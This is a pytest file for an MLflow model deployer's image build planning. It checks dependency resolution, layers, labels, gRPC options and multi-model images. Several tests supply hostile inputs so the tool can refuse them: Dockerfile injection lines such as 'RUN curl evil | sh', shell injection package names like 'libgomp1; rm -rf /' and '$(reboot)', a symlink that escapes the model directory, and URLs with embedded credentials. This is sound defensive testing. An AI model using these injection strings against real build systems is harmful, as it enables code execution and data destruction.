"""plan_build: pure planning on real MLflow-saved models (no Docker, no network)."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest
import yaml

from deployer.building.plan import BuildOptions, plan_build, strip_credentials
from deployer.building.runtime import runtime_files
from deployer.errors import (
    DeployerError,
    EnvironmentSpecError,
    RenderError,
    UnsafePathError,
    UsageError,
)
from deployer.intake import load_model
from deployer.model.files import iter_model_files

BASE = "deployer-base/python:3.11-bookworm"


def _copy(src: Path, dest: Path) -> Path:
    shutil.copytree(src, dest)
    return dest


def test_plan_of_a_sklearn_model(sklearn_model: Path) -> None:
    loaded = load_model(str(sklearn_model))
    plan = plan_build(loaded, BuildOptions())
    reqs = plan.requirements.requirements
    assert any(r.startswith("mlflow-skinny==") for r in reqs) and not any(r.startswith("mlflow==") for r in reqs)
    assert any(r.startswith("scikit-learn==") for r in reqs)
    assert "dumb-init>=1.2" in reqs and any(r.startswith("uvicorn") for r in reqs)
    assert not any(r.split("==")[0] in ("pip", "setuptools", "wheel") for r in reqs)
    assert plan.base_image == f"python:{plan.platform.python}-slim"
    assert [layer.name for layer in plan.layers] == ["base", "user", "environment", "runtime", "model"]
    labels = dict(plan.labels)
    assert labels["io.deployer.model.uuid"] == loaded.mlmodel.model_uuid
    assert labels["io.deployer.mlflow.version"] == loaded.mlmodel.mlflow_version
    assert labels["io.deployer.model.digest"] == plan.model_digest
    assert labels["io.deployer.model.flavors"] == "python_function,sklearn"
    assert plan.user == "1000:1000" and plan.cmd == ("serve",)
    assert plan.entrypoint == ("/opt/venv/bin/dumb-init", "--")
    name, tag = plan.tag.split(":")
    assert name == "sklearn_skops" and tag == plan.fingerprint[7:19]


def test_plan_is_deterministic_and_content_addressed(sklearn_model: Path, tmp_path: Path) -> None:
    a = plan_build(load_model(str(sklearn_model)))
    b = plan_build(load_model(str(sklearn_model)))
    assert a == b
    copy = _copy(sklearn_model, tmp_path / "sklearn_skops")
    c = plan_build(load_model(str(copy)))
    # same bytes elsewhere: same digest, same fingerprint, same tag (the image would be identical)
    assert c.model_digest == a.model_digest and c.fingerprint == a.fingerprint and c.tag == a.tag
    (copy / "extra.txt").write_text("retrained")
    d = plan_build(load_model(str(copy)))
    assert d.model_digest != a.model_digest and d.fingerprint != a.fingerprint
    # the dependency layer's fingerprint does not move with the model
    assert d.layers[2].fingerprint == a.layers[2].fingerprint


def test_options_change_the_plan(sklearn_model: Path) -> None:
    loaded = load_model(str(sklearn_model))
    full = plan_build(loaded, BuildOptions(keep_full_mlflow=True))
    assert any(r.startswith("mlflow==") for r in full.requirements.requirements)
    root = plan_build(loaded, BuildOptions(run_as_root=True, target="sagemaker", tag="reg.io/x/iris:1"))
    assert root.user == "root" and root.tag == "reg.io/x/iris:1" and root.target == "sagemaker"
    azure = plan_build(loaded, BuildOptions(target="azureml"))
    assert any(r.startswith("azureml-inference-server-http") for r in azure.requirements.requirements)
    assert azure.healthcheck[-1].count("'/'") == 1
    local = plan_build(loaded, BuildOptions(env_kind="local", base_image=BASE))
    assert local.env_prefix == "" and local.python == "python3" and local.entrypoint == ("/usr/bin/env",)
    env = plan_build(loaded, BuildOptions(env=(("GREETING", "hello $USER"),)))
    assert ("GREETING", "hello $USER") in env.env


@pytest.mark.parametrize("options, error", [
    (BuildOptions(target="sagemker"), "did you mean 'sagemaker'"),
    (BuildOptions(base_image="python:3.11\nRUN curl evil | sh"), "control character"),
    (BuildOptions(base_image="Not A Ref"), "not a valid image reference"),
    (BuildOptions(tag="bad tag"), "not a valid image reference"),
    (BuildOptions(env=(("AWS_SECRET_ACCESS_KEY", "x"),)), "refusing to bake"),
    (BuildOptions(env=(("X", "a\nRUN evil"),)), "control character"),
    (BuildOptions(labels=(("io.deployer.version", "x"),)), "reserved"),
    (BuildOptions(labels=(("ok.key", "v\nRUN evil"),)), "control character"),
    (BuildOptions(platform="windows/amd64"), "unsupported platform"),
    (BuildOptions(port=70000), "out of range"),
])
def test_bad_options_are_refused(sklearn_model: Path, options: BuildOptions, error: str) -> None:
    with pytest.raises(DeployerError, match=error):
        plan_build(load_model(str(sklearn_model)), options)


def test_lock_for_another_python_is_refused(sklearn_model: Path, tmp_path: Path) -> None:
    from deployer.environment.lock import Lock, TargetPlatform, write_lock

    write_lock(Lock(platform=TargetPlatform.parse("linux/amd64", "3.9"), packages=()), tmp_path / "l")
    with pytest.raises(UsageError, match="Python 3.9"):
        plan_build(load_model(str(sklearn_model)), BuildOptions(lock_file=tmp_path / "l", python_version="3.11"))


# ---------------------------------------------------------------- hostile models
def test_injected_requirement_line_is_refused(sklearn_model: Path, tmp_path: Path) -> None:
    model = _copy(sklearn_model, tmp_path / "m")
    with (model / "requirements.txt").open("a") as fh:
        fh.write("\nnumpy\nRUN curl evil | sh\n")
    with pytest.raises(EnvironmentSpecError, match="RUN curl evil"):
        plan_build(load_model(str(model)))


def test_injected_python_env_dependency_is_refused(sklearn_model: Path, tmp_path: Path) -> None:
    model = _copy(sklearn_model, tmp_path / "m")
    env = yaml.safe_load((model / "python_env.yaml").read_text())
    env["dependencies"] = ["numpy\nRUN curl evil | sh"]
    (model / "python_env.yaml").write_text(yaml.safe_dump(env))
    with pytest.raises(EnvironmentSpecError, match="newline"):
        plan_build(load_model(str(model)))


def test_injected_flavor_name_never_reaches_a_label(sklearn_model: Path, tmp_path: Path) -> None:
    model = _copy(sklearn_model, tmp_path / "m")
    ml = yaml.safe_load((model / "MLmodel").read_text())
    ml["flavors"]["evil\nRUN curl evil | sh"] = {"x": 1}
    (model / "MLmodel").write_text(yaml.safe_dump(ml))
    with pytest.raises(DeployerError):
        plan_build(load_model(str(model)))


def test_model_uuid_with_newline_is_refused(sklearn_model: Path, tmp_path: Path) -> None:
    model = _copy(sklearn_model, tmp_path / "m")
    ml = yaml.safe_load((model / "MLmodel").read_text())
    ml["model_uuid"] = "abc\nRUN curl evil | sh"
    (model / "MLmodel").write_text(yaml.safe_dump(ml))
    with pytest.raises((RenderError, DeployerError)):
        plan_build(load_model(str(model)))


def test_file_names_with_newlines_and_escaping_symlinks_are_refused(sklearn_model: Path, tmp_path: Path) -> None:
    model = _copy(sklearn_model, tmp_path / "m")
    (model / "bad\nRUN evil").write_text("x")
    with pytest.raises(UnsafePathError, match="control character"):
        plan_build(load_model(str(model)))
    (model / "bad\nRUN evil").unlink()
    secret = tmp_path / "secret.txt"
    secret.write_text("do not ship")
    os.symlink(secret, model / "innocent.txt")
    with pytest.raises(UnsafePathError, match="outside the model directory"):
        plan_build(load_model(str(model)))
    (model / "innocent.txt").unlink()
    os.symlink(model / "MLmodel", model / "alias")  # a link inside the model is fine
    assert ("alias", model / "alias") in iter_model_files(model)


def test_model_copy_skips_bytecode(sklearn_model: Path, tmp_path: Path) -> None:
    model = _copy(sklearn_model, tmp_path / "m")
    (model / "__pycache__").mkdir()
    (model / "__pycache__" / "x.cpython-311.pyc").write_bytes(b"\0")
    (model / "y.pyc").write_bytes(b"\0")
    rels = [rel for rel, _ in iter_model_files(model)]
    assert not any("pyc" in r or "__pycache__" in r for r in rels)


def test_strip_credentials() -> None:
    assert strip_credentials("https://user:tok@host:8443/p/x?sig=abc#f") == "https://host:8443/p/x"
    assert strip_credentials("s3://bucket/key") == "s3://bucket/key"
    assert strip_credentials("models:/iris/1") == "models:/iris/1"
    assert strip_credentials("/local/path") == "/local/path"


def test_runtime_is_the_serving_import_closure() -> None:
    rt = runtime_files()
    assert "deployer/serving/__init__.py" in rt.files and "deployer/__init__.py" in rt.files
    assert "deployer/errors.py" in rt.files
    assert not any(f.startswith(("deployer/cli/", "deployer/building/", "deployer/targets/")) for f in rt.files)
    assert rt == runtime_files()


def test_credentials_in_model_env_files_are_scrubbed_from_the_image_copy(sklearn_model: Path, tmp_path: Path) -> None:
    from deployer.model.files import sanitized_content

    model = _copy(sklearn_model, tmp_path / "m")
    reqs = model / "requirements.txt"
    reqs.write_text("--extra-index-url https://bot:s3cret@pkgs.example.org/simple\n" + reqs.read_text())
    plan = plan_build(load_model(str(model)))
    cleaned = sanitized_content("requirements.txt", reqs)
    assert cleaned is not None and b"s3cret" not in cleaned and b"https://pkgs.example.org/simple" in cleaned
    assert any("requirements.txt" in w and "removed" in w for w in plan.warnings)
    assert sanitized_content("MLmodel", model / "MLmodel") is None
    assert "s3cret" not in repr(plan.to_dict())


def test_pyarrow_only_with_parquet_or_when_the_model_needs_it(sklearn_model: Path, tmp_path: Path) -> None:
    loaded = load_model(str(sklearn_model))
    slim = plan_build(loaded)  # the default: no pyarrow, and the plan says so
    assert not any(r.startswith("pyarrow") for r in slim.requirements.requirements)
    assert any("pyarrow" in n and "--parquet" in n for n in slim.requirements.notes)
    full = plan_build(loaded, BuildOptions(parquet=True))
    assert any(r.startswith("pyarrow") for r in full.requirements.requirements)
    model = _copy(sklearn_model, tmp_path / "m")
    (model / "requirements.txt").write_text((model / "requirements.txt").read_text() + "\npyarrow==21.0.0\n")
    needs = plan_build(load_model(str(model)), BuildOptions(parquet=False))
    assert "pyarrow==21.0.0" in needs.requirements.requirements


# ---- --pip / --pip-requirements-override / --system-package / Java (issue 14) -------------

def _reqs(plan) -> dict[str, str]:  # type: ignore[no-untyped-def]
    return {r.split("==")[0].split(">=")[0]: r for r in plan.requirements.requirements}


def test_pip_overrides_the_models_version_and_adds_the_rest(sklearn_model: Path, tmp_path: Path) -> None:
    loaded = load_model(str(sklearn_model))
    base = plan_build(loaded)
    assert _reqs(base)["scikit-learn"].startswith("scikit-learn==")
    plan = plan_build(loaded, BuildOptions(pip=("scikit-learn==1.5.2", "threadpoolctl>=3")))
    reqs = plan.requirements.requirements
    assert "scikit-learn==1.5.2" in reqs and "threadpoolctl>=3" in reqs
    assert [r for r in reqs if r.startswith("scikit-learn")] == ["scikit-learn==1.5.2"]  # replaced, not doubled
    assert any("replaced 'scikit-learn==" in n and "--pip" in n for n in plan.requirements.notes)
    assert plan.tag != base.tag and plan.fingerprint != base.fingerprint  # the tag covers it
    # the same from a file, MLflow's --pip-requirements-override
    override = tmp_path / "override.txt"
    override.write_text("# pins for the release\nscikit-learn==1.5.2\n\nthreadpoolctl>=3  # added\n")
    from_file = plan_build(loaded, BuildOptions(pip_override_file=override))
    assert from_file.requirements.requirements == reqs and from_file.tag == plan.tag


@pytest.mark.parametrize("value, error", [
    ("--index-url https://pypi.example.org/simple", "is a pip option"),
    ("-r other.txt", "is a pip option"),
    ("pandas\nRUN curl evil | sh", "newline or control character"),
    ("wheels/pkg-1.0-py3-none-any.whl", "is a local path"),
    ("pkg @ https://user:s3cret@pkgs.example.org/pkg-1.0.whl", "carries credentials"),
    ("not a requirement !!", "requirement"),
])
def test_bad_pip_values_are_refused(sklearn_model: Path, value: str, error: str) -> None:
    with pytest.raises(DeployerError, match=error) as info:
        plan_build(load_model(str(sklearn_model)), BuildOptions(pip=(value,)))
    assert "s3cret" not in str(info.value.what)


def test_override_file_errors_name_the_file_and_line(sklearn_model: Path, tmp_path: Path) -> None:
    override = tmp_path / "override.txt"
    override.write_text("pandas==2.2.3\n--extra-index-url https://pkgs.example.org/simple\n")
    with pytest.raises(DeployerError, match="is a pip option") as info:
        plan_build(load_model(str(sklearn_model)), BuildOptions(pip_override_file=override))
    assert info.value.where == f"{override}:2"
    with pytest.raises(UsageError, match="cannot read the requirements override file"):
        plan_build(load_model(str(sklearn_model)), BuildOptions(pip_override_file=tmp_path / "missing.txt"))


def test_system_packages_make_an_os_layer_below_the_environment(sklearn_model: Path) -> None:
    loaded = load_model(str(sklearn_model))
    base = plan_build(loaded)
    assert not base.os_packages and "io.deployer.os-packages" not in dict(base.labels)
    plan = plan_build(loaded, BuildOptions(system_packages=("libgomp1", "libgomp1", "curl")))
    assert plan.os_packages.packages == ("curl", "libgomp1")  # sorted, once: the cache key is the list
    assert [layer.name for layer in plan.layers] == ["base", "os", "user", "environment", "runtime", "model"]
    assert "curl, libgomp1" in plan.layers[1].description
    assert dict(plan.labels)["io.deployer.os-packages"] == "curl,libgomp1"
    assert plan.tag != base.tag
    argv = plan.os_packages.apt_argv()
    assert argv[:2] == ["/bin/sh", "-c"] and "--no-install-recommends curl libgomp1;" in argv[2]
    assert plan.to_dict()["os_packages"] == {"packages": ["curl", "libgomp1"], "reasons": []}


@pytest.mark.parametrize("name", ["libgomp1; rm -rf /", "$(reboot)", "LibGomp1", "-o", "x", "pkg=1.0",
                                  "pkg name", "pkg\nRUN evil", "a/b", ""])
def test_hostile_system_package_names_are_refused(sklearn_model: Path, name: str) -> None:
    with pytest.raises(UsageError, match="is not a Debian package name") as info:
        plan_build(load_model(str(sklearn_model)), BuildOptions(system_packages=(name,)))
    assert info.value.where == "--system-package"


@pytest.mark.parametrize("flavor", ["spark", "h2o", "johnsnowlabs", "mleap"])
def test_jvm_flavors_get_a_jre_unless_no_java(sklearn_model: Path, tmp_path: Path, flavor: str) -> None:
    from deployer.building.plan import JRE_PACKAGE
    from tests.model._edit import altered

    model = altered(sklearn_model, tmp_path / "m", lambda d: d["flavors"].update({flavor: {"x": 1}}))
    plan = plan_build(load_model(str(model)))
    assert plan.os_packages.packages == (JRE_PACKAGE,)
    assert any(f"the {flavor} flavor needs a JVM" in why for why in plan.os_packages.reasons)
    assert f"the {flavor} flavor needs a JVM" in plan.layers[1].description  # said in the plan
    without = plan_build(load_model(str(model)), BuildOptions(java=False))
    assert not without.os_packages
    assert any("--no-java" in w and "java" in w for w in without.warnings)
    both = plan_build(load_model(str(model)), BuildOptions(system_packages=("libgomp1",)))
    assert both.os_packages.packages == tuple(sorted((JRE_PACKAGE, "libgomp1")))
    assert not plan_build(load_model(str(sklearn_model))).os_packages  # no JVM flavor, no Java


def test_the_plan_bakes_the_load_mode_into_the_image(sklearn_model: Path, custom_pyfunc_model: Path) -> None:
    """Decided from the model (flavor, requirements, code); a custom pyfunc nothing is known
    about stays undecided (the server checks it after loading); --env wins; a bad value fails."""
    import pytest

    from deployer.errors import UsageError

    sk = plan_build(load_model(str(sklearn_model)))
    assert dict(sk.env)["DEPLOYER_SERVE_LOAD_MODE"] == "preload"
    assert sk.load_mode is not None and sk.to_dict()["load_mode"]["mode"] == "preload"
    custom = plan_build(load_model(str(custom_pyfunc_model)))
    assert "DEPLOYER_SERVE_LOAD_MODE" not in dict(custom.env)
    assert custom.load_mode is not None and not custom.load_mode.certain
    forced = plan_build(load_model(str(sklearn_model)),
                        BuildOptions(env=(("DEPLOYER_SERVE_LOAD_MODE", "per-worker"),)))
    assert dict(forced.env)["DEPLOYER_SERVE_LOAD_MODE"] == "per-worker"
    assert forced.verify is not None and forced.verify.load_mode == "per-worker"
    with pytest.raises(UsageError, match="not a load mode"):
        plan_build(load_model(str(sklearn_model)), BuildOptions(env=(("DEPLOYER_SERVE_LOAD_MODE", "fork"),)))


# ---------------------------------------------------------------- --grpc-port (V2 over gRPC)
def _names(plan) -> set[str]:  # type: ignore[no-untyped-def]
    return {r.split(";")[0].split(">")[0].split("=")[0].split("<")[0].strip() for r in plan.requirements.requirements}


def test_grpc_port_installs_the_grpc_extra_bakes_exposes_and_fingerprints_it(sklearn_model: Path) -> None:
    from deployer.building.context import dockerfile_context
    from deployer.rendering.render import render_template

    loaded = load_model(str(sklearn_model))
    plain = plan_build(loaded, BuildOptions())
    grpc = plan_build(loaded, BuildOptions(grpc_port=8081))
    # images without --grpc-port carry no gRPC runtime at all
    assert not {"grpcio", "protobuf"} & _names(plain)
    assert "DEPLOYER_SERVE_GRPC_PORT" not in dict(plain.env) and plain.grpc_port is None
    assert "io.deployer.grpc.port" not in dict(plain.labels)
    # with it: deployer's grpc extra, the port in the environment, a label, its own tag
    assert {"grpcio", "protobuf"} <= _names(grpc)
    assert any("grpc extra" in note for note in grpc.requirements.notes)
    assert dict(grpc.env)["DEPLOYER_SERVE_GRPC_PORT"] == "8081"
    assert dict(grpc.labels)["io.deployer.grpc.port"] == "8081"
    assert grpc.fingerprint != plain.fingerprint and grpc.tag != plain.tag
    assert plan_build(loaded, BuildOptions(grpc_port=9000)).fingerprint != grpc.fingerprint
    assert grpc.to_dict()["grpc_port"] == 8081
    # verification calls the gRPC port too, for the model's V2 name
    assert grpc.verify is not None and grpc.verify.grpc_port == 8081
    assert grpc.verify.grpc_models == ("model",) and "ModelInfer" in grpc.verify.describe()
    assert plain.verify is not None and plain.verify.grpc_port is None
    named = plan_build(loaded, BuildOptions(grpc_port=8081, env=(("DEPLOYER_SERVE_MODEL_NAME", "iris"),)))
    assert named.verify is not None and named.verify.grpc_models == ("iris",)

    def dockerfile(plan) -> str:  # type: ignore[no-untyped-def]
        return render_template("Dockerfile.j2", **dockerfile_context(plan, buildkit=False, uv_sha256=""))

    assert "EXPOSE 8081" in dockerfile(grpc) and "EXPOSE 8080" in dockerfile(grpc)
    assert "EXPOSE 8081" not in dockerfile(plain)
    # the options survive a deploy plan's round trip
    assert BuildOptions.from_params(BuildOptions(grpc_port=8081).to_params()).grpc_port == 8081


@pytest.mark.parametrize(("options", "message"), [
    (BuildOptions(grpc_port=8080), "is the HTTP port too"),
    (BuildOptions(grpc_port=70000), "out of range"),
    (BuildOptions(grpc_port=8081, target="azureml"), "serves no gRPC"),
    (BuildOptions(grpc_port=8081, env=(("DEPLOYER_SERVE_GRPC_PORT", "9"),)), "given twice"),
])
def test_grpc_port_refusals(sklearn_model: Path, options: BuildOptions, message: str) -> None:
    with pytest.raises(UsageError) as info:
        plan_build(load_model(str(sklearn_model)), options)
    assert message in info.value.what and info.value.where == "--grpc-port" and info.value.fix


def test_grpc_fallback_requirements_match_pyproject() -> None:
    """The fallbacks (an install whose metadata predates an extra) say what pyproject says."""
    import tomllib

    from deployer.building.dependencies import GRPC_FALLBACK, SERVE_FALLBACK

    extras = tomllib.loads((Path(__file__).parents[2] / "pyproject.toml").read_text())["project"][
        "optional-dependencies"]
    assert list(GRPC_FALLBACK) == extras["grpc"]
    assert [r.split(";")[0].strip() for r in extras["serve"]] == list(SERVE_FALLBACK)


# ---------------------------------------------------------------- multi-model images
def _three(sklearn_model: Path, params_model: Path, tensor_model: Path) -> list[tuple[str, object]]:
    return [("iris", load_model(str(sklearn_model))), ("params", load_model(str(params_model))),
            ("tensor", load_model(str(tensor_model)))]


def test_model_set_plan_one_environment_one_layer_per_model(
        sklearn_model: Path, params_model: Path, tensor_model: Path, tmp_path: Path) -> None:
    from deployer.building.context import dockerfile_context, serve_context
    from deployer.building.plan import plan_model_set
    from deployer.rendering.render import render_template

    models = _three(sklearn_model, params_model, tensor_model)
    plan = plan_model_set(models, BuildOptions(grpc_port=8081))  # type: ignore[arg-type]
    assert [m.name for m in plan.models] == ["iris", "params", "tensor"]
    assert [m.image_path for m in plan.models] == [f"/opt/ml/model-repository/{n}" for n in ("iris", "params", "tensor")]
    assert [layer.name for layer in plan.layers][-3:] == ["model iris", "model params", "model tensor"]
    assert "model" not in [layer.name for layer in plan.layers]
    assert [layer.fingerprint for layer in plan.layers][-3:] == [m.digest for m in plan.models]
    env = dict(plan.env)
    assert env["DEPLOYER_SERVE_MODEL_REPOSITORY"] == "/opt/ml/model-repository" and "DEPLOYER_MODEL_DIR" not in env
    # /invocations without a header: the first model given (not the repository's first by name)
    assert env["DEPLOYER_SERVE_DEFAULT_MODEL"] == "iris"
    reordered = plan_model_set(models[::-1])  # type: ignore[arg-type]
    assert dict(reordered.env)["DEPLOYER_SERVE_DEFAULT_MODEL"] == "tensor"
    payloads = {c.name: c.payload for c in plan.verify.models}  # type: ignore[union-attr]
    assert reordered.verify is not None and reordered.verify.payload == payloads["tensor"]
    chosen = plan_model_set(models, BuildOptions(env=(("DEPLOYER_SERVE_DEFAULT_MODEL", "params"),)))  # type: ignore[arg-type]
    assert chosen.verify is not None and chosen.verify.payload == payloads["params"] != payloads["tensor"]
    labels = dict(plan.labels)
    assert labels["io.deployer.models"] == "iris,params,tensor"
    assert labels["io.deployer.models.tensor.digest"] == plan.models[2].digest
    assert "io.deployer.model.uuid" not in labels
    assert set(labels["io.deployer.model.flavors"].split(",")) >= {"sklearn", "python_function"}
    # one environment: every model's packages, one lock
    names = _names(plan)
    assert {"scikit-learn", "cloudpickle", "grpcio"} <= names
    assert plan.tag.startswith("iris-params-tensor:")
    # verification: every model by name, over HTTP and gRPC
    assert plan.verify is not None
    assert [c.name for c in plan.verify.models] == ["iris", "params", "tensor"]
    assert all(c.score_route == "/invocations" for c in plan.verify.models)
    assert plan.verify.grpc_models == ("iris", "params", "tensor")
    assert "X-Deployer-Target-Model" in plan.verify.describe()
    dockerfile = render_template("Dockerfile.j2", **dockerfile_context(plan, buildkit=False, uv_sha256=""))
    copies = [line for line in dockerfile.splitlines() if line.startswith("COPY [\"models/")]
    assert copies == [f'COPY ["models/{n}", "/opt/ml/model-repository/{n}"]' for n in ("iris", "params", "tensor")]
    assert dockerfile.rstrip().splitlines()[-1].startswith(("LABEL", "      ")) and 'COPY ["model",' not in dockerfile
    serve = render_template("serve.j2", **serve_context(plan))
    assert "DEPLOYER_SERVE_MODEL_REPOSITORY" in serve and "DEPLOYER_SERVE_MODEL_DIR" not in serve

    # a retrained model: its layer and the set's digest change, nothing else of the plan
    retrained = _copy(params_model, tmp_path / "params2")
    (retrained / "extra.txt").write_text("retrained\n")
    other = plan_model_set([models[0], ("params", load_model(str(retrained))), models[2]],  # type: ignore[list-item]
                           BuildOptions(grpc_port=8081))
    changed = [a.name for a, b in zip(plan.layers, other.layers, strict=True) if a != b]
    assert changed == ["model params"]
    assert other.requirements == plan.requirements and other.tag != plan.tag


def test_model_set_refusals(sklearn_model: Path, params_model: Path, tensor_model: Path, tmp_path: Path) -> None:
    from deployer.building.plan import plan_model_set
    from deployer.errors import EnvironmentConflictError

    models = _three(sklearn_model, params_model, tensor_model)
    for options, message in [
        (BuildOptions(target="azureml"), "serves one model"),
        (BuildOptions(model_config='{"a": 1}'), "--model-config"),
        (BuildOptions(env=(("DEPLOYER_SERVE_MODEL_REPOSITORY", "/x"),)), "would change which models"),
    ]:
        with pytest.raises(UsageError, match=message):
            plan_model_set(models, options)  # type: ignore[arg-type]
    with pytest.raises(UsageError, match="given twice"):
        plan_model_set([models[0], ("iris", models[1][1])])  # type: ignore[list-item]
    with pytest.raises(UsageError, match="not one of the image's models"):
        plan_model_set(models, BuildOptions(env=(("DEPLOYER_SERVE_DEFAULT_MODEL", "nope"),)))  # type: ignore[arg-type]
    old = _copy(sklearn_model, tmp_path / "old")
    reqs = old / "requirements.txt"
    reqs.write_text("\n".join(x if not x.startswith("scikit-learn") else "scikit-learn==1.5.2"
                              for x in reqs.read_text().splitlines()) + "\n")
    with pytest.raises(EnvironmentConflictError) as info:
        plan_model_set([*models, ("old", load_model(str(old)))])  # type: ignore[list-item]
    assert [(c.subject, sorted(dict(c.by_model))) for c in info.value.conflicts] == [
        ("scikit-learn", ["iris", "old"])]
